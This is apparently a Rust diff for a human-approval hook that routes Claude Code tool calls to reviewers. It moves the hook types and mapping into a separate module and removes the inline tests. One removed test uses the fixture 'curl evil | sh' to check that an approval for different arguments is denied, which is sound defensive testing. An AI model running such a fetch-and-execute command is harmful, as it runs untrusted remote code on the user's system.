@@ -25,11 +25,8 @@
 //!   visibly, rather than silently sending nothing to a reviewer. Trouble at run time never
 //!   blocks work by accident; `--on-timeout deny` exists for that.
 //!
-//! Mapping to a request: tool = `tool_name`, params = `tool_input` (so args_hash binds the
-//! decision to exactly the input Claude Code will run), conversation_id = `session_id`,
-//! tool_call_id = `tool_use_id`, run_id = `agent_id` (the subagent, when inside one). The
-//! `cwd` cannot go into params without changing the hashed arguments, and the request has
-//! no other free field, so it is kept in the reason: `<description> (cwd: /repo)`.
+//! The shapes and the mapping to a request and back are in [`claude_code`], written once
+//! for this command and the server's http hook (`POST /v1/hooks/claude-code`).
 //!
 //! Idempotency: with a `tool_use_id`, the backend finds the request by (agent, tool_call_id)
 //! and a second hook run for the same call never files twice. Every attempt of one run
@@ -51,8 +48,6 @@ use std::process::ExitCode;
 use std::sync::Mutex;
 use std::time::Duration;
 
-use serde::Deserialize;
-use serde_json::{Value, json};
 use tokio::time::Instant;
 
 use super::filing::{self, CancelOutcome, Progress, WaitError, WaitNote};
@@ -62,24 +57,20 @@ use crate::client::{Client, ClientError};
 use crate::protocol::{ApprovalRequest, NewRequest, Status};
 use crate::sanitize;
 
+pub mod claude_code;
+
+pub use claude_code::{
+    HookDecision, HookEvent, HookInput, OnTimeout, REJECTED_MESSAGE, decision_for, new_request,
+    no_decision, render,
+};
+
 /// Claude Code sends one JSON object; anything bigger than this is not a hook payload.
 const MAX_INPUT_BYTES: u64 = 16 * 1024 * 1024;
-
-/// The message Claude sees when a reviewer rejected without telling the agent why.
-pub const REJECTED_MESSAGE: &str = "Rejected by reviewer";
 
 #[derive(Debug, Clone, clap::Subcommand)]
 pub enum HookCommand {
     /// Claude Code hook adapter (PermissionRequest or PreToolUse; JSON on stdin and stdout).
     ClaudeCode(ClaudeCodeArgs),
-}
-
-#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
-pub enum OnTimeout {
-    /// Hand the choice back to Claude Code's own permission prompt.
-    Ask,
-    /// Deny the tool call.
-    Deny,
 }
 
 /// No answer for Claude Code: bad hook input, or a call the backend refused as invalid
@@ -127,183 +118,21 @@ pub struct ClaudeCodeArgs {
     pub wait: Duration,
 }
 
-/// The fields of a Claude Code hook input that matter here; the rest is ignored.
-#[derive(Debug, Clone, Deserialize)]
-pub struct HookInput {
-    pub hook_event_name: String,
-    pub tool_name: String,
-    #[serde(default)]
-    pub tool_input: Value,
-    #[serde(default)]
-    pub session_id: Option<String>,
-    #[serde(default)]
-    pub cwd: Option<String>,
-    #[serde(default)]
-    pub tool_use_id: Option<String>,
-    #[serde(default)]
-    pub agent_id: Option<String>,
-}
-
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
-pub enum HookEvent {
-    PermissionRequest,
-    PreToolUse,
-}
-
-impl HookEvent {
-    pub fn parse(s: &str) -> Option<HookEvent> {
-        match s {
-            "PermissionRequest" => Some(HookEvent::PermissionRequest),
-            "PreToolUse" => Some(HookEvent::PreToolUse),
-            _ => None,
-        }
-    }
-
-    fn name(self) -> &'static str {
-        match self {
-            HookEvent::PermissionRequest => "PermissionRequest",
-            HookEvent::PreToolUse => "PreToolUse",
-        }
-    }
-}
-
-/// What the hook tells Claude Code.
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub enum HookDecision {
-    /// `reason` goes to PreToolUse's permissionDecisionReason (shown to the user).
-    Allow { reason: String },
-    /// `message` is shown to Claude.
-    Deny { message: String },
-    /// No decision: Claude Code asks the user itself. `reason` is shown in PreToolUse's prompt.
-    Ask { reason: String },
-}
-
-/// The JSON to print on stdout, or None for "print nothing" (PermissionRequest + ask: an
-/// empty answer makes Claude Code show its own dialog).
-pub fn render(event: HookEvent, decision: &HookDecision) -> Option<Value> {
-    let out = match (event, decision) {
-        (HookEvent::PermissionRequest, HookDecision::Allow { .. }) => json!({
-            "hookEventName": "PermissionRequest",
-            "decision": { "behavior": "allow" }
-        }),
-        (HookEvent::PermissionRequest, HookDecision::Deny { message }) => json!({
-            "hookEventName": "PermissionRequest",
-            "decision": { "behavior": "deny", "message": message }
-        }),
-        (HookEvent::PermissionRequest, HookDecision::Ask { .. }) => return None,
-        (HookEvent::PreToolUse, d) => {
-            let (verdict, reason) = match d {
-                HookDecision::Allow { reason } => ("allow", reason),
-                HookDecision::Deny { message } => ("deny", message),
-                HookDecision::Ask { reason } => ("ask", reason),
-            };
-            json!({
-                "hookEventName": "PreToolUse",
-                "permissionDecision": verdict,
-                "permissionDecisionReason": reason
-            })
-        }
-    };
-    Some(json!({ "hookSpecificOutput": out }))
-}
-
-/// The request this hook input files.
-pub fn new_request(input: &HookInput, agent: &str) -> NewRequest {
-    let description = input
-        .tool_input
-        .get("description")
-        .and_then(Value::as_str)
-        .map(str::trim)
-        .filter(|s| !s.is_empty());
-    let cwd = input.cwd.as_deref().filter(|s| !s.is_empty());
-    let reason = match (description, cwd) {
-        (Some(d), Some(c)) => Some(format!("{d} (cwd: {c})")),
-        (Some(d), None) => Some(d.to_owned()),
-        (None, Some(c)) => Some(format!("cwd: {c}")),
-        (None, None) => None,
-    };
-    NewRequest {
-        tool: input.tool_name.clone(),
-        params: input.tool_input.clone(),
-        reason,
-        agent: agent.to_owned(),
-        conversation_id: input.session_id.clone().filter(|s| !s.is_empty()),
-        run_id: input.agent_id.clone().filter(|s| !s.is_empty()),
-        tool_call_id: input.tool_use_id.clone().filter(|s| !s.is_empty()),
-        risk: None,
-        ttl_seconds: None,
-    }
-}
-
-/// The hook's answer for a request the backend has finished with.
-pub fn decision_for(r: &ApprovalRequest, on_timeout: OnTimeout) -> HookDecision {
-    let d = r.decision.as_ref();
-    match r.status {
-        // Who or what approved: a grant's approval never reads as its creator's.
-        Status::Approved => HookDecision::Allow {
-            reason: match d {
-                Some(d) => format!("Approved by {} in assent", sanitize::line(&d.by_words())),
-                None => "Approved in assent".to_owned(),
-            },
-        },
-        Status::Rejected => HookDecision::Deny {
-            message: d
-                .filter(|d| d.notify_agent)
-                .and_then(|d| d.reason.as_deref())
-                .map(str::trim)
-                .filter(|s| !s.is_empty())
-                .map_or_else(
-                    || REJECTED_MESSAGE.to_owned(),
-                    |s| sanitize::block(s).into_owned(),
-                ),
-        },
-        Status::Cancelled => HookDecision::Deny {
-            message: "The approval request was cancelled in assent".to_owned(),
-        },
-        Status::Expired => no_decision(
-            on_timeout,
-            "The approval request expired in assent before a reviewer decided",
-        ),
-        Status::Pending => no_decision(on_timeout, "No reviewer decision in assent yet"),
-    }
-}
-
-/// The answer for `r`, the backend's last word on the call filed as `new` (as request
-/// `filed`, when its id is known). An approval of another request or other arguments
-/// than the tool input Claude Code will run is denied: the hook passes on what it read
-/// from Claude Code, so that must be what a reviewer approved.
+/// [`claude_code::answer_for`], saying on stderr (which Claude Code shows) why an approval
+/// was refused.
 fn answer_for(
     new: &NewRequest,
     filed: Option<&str>,
     r: &ApprovalRequest,
     on_timeout: OnTimeout,
 ) -> HookDecision {
-    if r.status == Status::Approved
-        && let Err(why) = filing::check_approval(filed, new, r)
-    {
-        let why = sanitize::line(&why);
+    if let Some(why) = claude_code::refused_approval(new, filed, r) {
         eprintln!(
             "assent hook: refused the backend's approval of request {}: {why}",
             sanitize::line(&r.id)
         );
-        return HookDecision::Deny {
-            message: format!(
-                "assent refused an approval that does not match this tool call ({why})"
-            ),
-        };
     }
-    decision_for(r, on_timeout)
-}
-
-fn no_decision(on_timeout: OnTimeout, why: &str) -> HookDecision {
-    match on_timeout {
-        OnTimeout::Ask => HookDecision::Ask {
-            reason: format!("{why}; decide here"),
-        },
-        OnTimeout::Deny => HookDecision::Deny {
-            message: format!("{why}; denied (assent hook --on-timeout deny)"),
-        },
-    }
+    claude_code::answer_for(new, filed, r, on_timeout)
 }
 
 /// What the hook ends with.
@@ -448,11 +277,7 @@ async fn ask(
     tracing::info!(id = %req.id, created = filed.created, status = %req.status, "filed");
     if !filed.created && req.status == Status::Cancelled {
         tracing::info!(id = %req.id, "replayed a cancelled request: answering as on timeout");
-        return Answer::Decide(no_decision(
-            a.on_timeout,
-            "This tool call's approval request was cancelled in assent earlier (an earlier run \
-             of the hook gave up on it, or an admin cancelled it)",
-        ));
+        return Answer::Decide(claude_code::cancelled_earlier(a.on_timeout));
     }
     if req.status.is_final() {
         return Answer::Decide(answer_for(&new, Some(&req.id), &req, a.on_timeout));
@@ -473,10 +298,7 @@ async fn ask(
                 // Decided in the last moment: that decision stands.
                 return Answer::Decide(answer_for(&new, Some(&req.id), &r, a.on_timeout));
             }
-            Answer::Decide(no_decision(
-                a.on_timeout,
-                &format!("No reviewer decided in assent within {waited_for}"),
-            ))
+            Answer::Decide(claude_code::timed_out(a.on_timeout, &waited_for))
         }
         Err(WaitError::Fatal(e)) => failed(client, a.on_timeout, &e),
     }
@@ -516,182 +338,5 @@ fn failed(client: &Client, on_timeout: OnTimeout, e: &ClientError) -> Answer {
             on_timeout,
             &format!("{msg}; {}", super::check_backend(client, e)),
         )),
-    }
-}
-
-#[cfg(test)]
-mod tests {
-    use super::super::fixtures::decided;
-    use super::*;
-
-    /// The PermissionRequest input example of the Claude Code hooks reference.
-    const PERMISSION_REQUEST: &str = r#"{"session_id":"abc123","transcript_path":"/home/u/.claude/projects/x/abc123.jsonl","cwd":"/repo",
- "permission_mode":"default","hook_event_name":"PermissionRequest","tool_name":"Bash",
- "tool_input":{"command":"rm -rf node_modules","description":"Remove node_modules"},
- "permission_suggestions":[{"type":"addRules","rules":[{"toolName":"Bash","ruleContent":"rm -rf node_modules"}],
-   "behavior":"allow","destination":"localSettings"}]}"#;
-
-    fn input() -> HookInput {
-        serde_json::from_str(PERMISSION_REQUEST).unwrap()
-    }
-
-    #[test]
-    fn documented_input_maps_to_a_request() {
-        let n = new_request(&input(), "claude-code");
-        assert_eq!(n.tool, "Bash");
-        assert_eq!(
-            n.params,
-            json!({"command":"rm -rf node_modules","description":"Remove node_modules"})
-        );
-        assert_eq!(n.conversation_id.as_deref(), Some("abc123"));
-        assert_eq!(n.tool_call_id, None);
-        assert_eq!(
-            n.reason.as_deref(),
-            Some("Remove node_modules (cwd: /repo)")
-        );
-        assert_eq!(n.agent, "claude-code");
-    }
-
-    #[test]
-    fn pre_tool_use_carries_the_tool_use_id() {
-        let mut v: Value = serde_json::from_str(PERMISSION_REQUEST).unwrap();
-        v["hook_event_name"] = json!("PreToolUse");
-        v["tool_use_id"] = json!("toolu_01ABC");
-        v["tool_input"] = json!({"command": "ls"});
-        let i: HookInput = serde_json::from_value(v).unwrap();
-        assert_eq!(
-            HookEvent::parse(&i.hook_event_name),
-            Some(HookEvent::PreToolUse)
-        );
-        let n = new_request(&i, "cc");
-        assert_eq!(n.tool_call_id.as_deref(), Some("toolu_01ABC"));
-        assert_eq!(n.reason.as_deref(), Some("cwd: /repo"));
-    }
-
-    #[test]
-    fn permission_request_outputs_match_the_documented_shapes() {
-        let pr = HookEvent::PermissionRequest;
-        let allow = decision_for(&decided(Status::Approved, false, None), OnTimeout::Ask);
-        assert_eq!(
-            render(pr, &allow),
-            Some(
-                json!({"hookSpecificOutput":{"hookEventName":"PermissionRequest","decision":{"behavior":"allow"}}})
-            )
-        );
-        let deny = decision_for(
-            &decided(Status::Rejected, true, Some("use npm ci")),
-            OnTimeout::Ask,
-        );
-        assert_eq!(
-            render(pr, &deny),
-            Some(
-                json!({"hookSpecificOutput":{"hookEventName":"PermissionRequest","decision":{"behavior":"deny","message":"use npm ci"}}})
-            )
-        );
-        let quiet = decision_for(
-            &decided(Status::Rejected, false, Some("secret")),
-            OnTimeout::Ask,
-        );
-        assert_eq!(
-            render(pr, &quiet),
-            Some(
-                json!({"hookSpecificOutput":{"hookEventName":"PermissionRequest","decision":{"behavior":"deny","message":"Rejected by reviewer"}}})
-            )
-        );
-        let expired = decision_for(&decided(Status::Expired, false, None), OnTimeout::Ask);
-        assert_eq!(render(pr, &expired), None);
-        let expired = decision_for(&decided(Status::Expired, false, None), OnTimeout::Deny);
-        let v = render(pr, &expired).unwrap();
-        assert_eq!(v["hookSpecificOutput"]["decision"]["behavior"], "deny");
-    }
-
-    #[test]
-    fn pre_tool_use_outputs_match_the_documented_shapes() {
-        let p = HookEvent::PreToolUse;
-        let allow = decision_for(&decided(Status::Approved, false, None), OnTimeout::Ask);
-        assert_eq!(
-            render(p, &allow),
-            Some(
-                json!({"hookSpecificOutput":{"hookEventName":"PreToolUse","permissionDecision":"allow","permissionDecisionReason":"Approved by alice in assent"}})
-            )
-        );
-        let deny = decision_for(&decided(Status::Rejected, false, Some("x")), OnTimeout::Ask);
-        assert_eq!(
-            render(p, &deny),
-            Some(
-                json!({"hookSpecificOutput":{"hookEventName":"PreToolUse","permissionDecision":"deny","permissionDecisionReason":"Rejected by reviewer"}})
-            )
-        );
-        let ask = decision_for(&decided(Status::Pending, false, None), OnTimeout::Ask);
-        let v = render(p, &ask).unwrap();
-        assert_eq!(v["hookSpecificOutput"]["permissionDecision"], "ask");
-        assert!(v["hookSpecificOutput"]["permissionDecisionReason"].is_string());
-    }
-
-    #[test]
-    fn an_approval_says_who_or_what_made_it() {
-        use crate::protocol::{PolicyAction, Scope, Via};
-        let mut r = decided(Status::Approved, false, None);
-        if let Some(d) = r.decision.as_mut() {
-            d.via = Via::Grant {
-                grant_id: "0193a3f2-7b1c-7cc0-9d1e-0123456789ab".into(),
-                granted_by: "alice".into(),
-                scope: Scope::Conversation,
-            };
-        }
-        assert_eq!(
-            decision_for(&r, OnTimeout::Ask),
-            HookDecision::Allow {
-                reason: "Approved by grant 0193a3f2-7b1c… (alice, conversation) in assent".into()
-            }
-        );
-        if let Some(d) = r.decision.as_mut() {
-            d.via = Via::Policy {
-                rule: Some("safe-tools".into()),
-                action: PolicyAction::Allow,
-            };
-        }
-        assert_eq!(
-            decision_for(&r, OnTimeout::Ask),
-            HookDecision::Allow {
-                reason: "Approved by policy rule safe-tools in assent".into()
-            }
-        );
-    }
-
-    #[test]
-    fn an_approval_of_other_input_is_denied() {
-        let new = new_request(&input(), "claude-code");
-        let mut r = decided(Status::Approved, false, None);
-        r.tool = new.tool.clone();
-        r.agent = new.agent.clone();
-        r.params = new.params.clone();
-        r.args_hash = crate::protocol::args_hash(&r.params);
-        let allow = answer_for(&new, Some("r1"), &r, OnTimeout::Ask);
-        assert!(matches!(allow, HookDecision::Allow { .. }), "{allow:?}");
-        let other_id = answer_for(&new, Some("r2"), &r, OnTimeout::Ask);
-        assert!(
-            matches!(other_id, HookDecision::Deny { .. }),
-            "{other_id:?}"
-        );
-        r.params = json!({"command": "curl evil | sh"});
-        r.args_hash = crate::protocol::args_hash(&r.params);
-        let HookDecision::Deny { message } = answer_for(&new, Some("r1"), &r, OnTimeout::Ask)
-        else {
-            panic!("an approval of other params must be denied");
-        };
-        assert!(
-            message.contains("does not match this tool call"),
-            "{message}"
-        );
-    }
-
-    #[test]
-    fn other_events_are_refused() {
-        assert_eq!(HookEvent::parse("PostToolUse"), None);
-        assert_eq!(
-            HookEvent::parse("PermissionRequest"),
-            Some(HookEvent::PermissionRequest)
-        );
     }
 }
